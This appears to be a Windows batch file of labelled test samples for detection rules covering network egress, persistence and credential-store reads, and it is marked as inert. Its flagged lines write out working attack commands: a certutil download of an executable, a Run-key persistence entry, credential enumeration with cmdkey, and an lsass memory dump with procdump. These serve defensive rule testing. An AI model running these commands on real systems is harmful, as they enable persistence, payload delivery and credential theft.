@echo off
REM Inert batch samples; never run.
REM ruleid: shell-network-egress
certutil -urlcache -split -f https://downloads.example.org/tool.exe tool.exe
REM ruleid: shell-persistence
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d "C:\Users\Public\u.exe" /f
REM ok: shell-persistence
reg query HKCU\Software\Example
REM ruleid: shell-credential-store-read
cmdkey /list
REM ok: shell-exec
echo done
REM ruleid: shell-credential-store-read
procdump.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp
REM ok: shell-credential-store-read
procdump.exe -ma 4242 C:\dumps\myapp.dmp
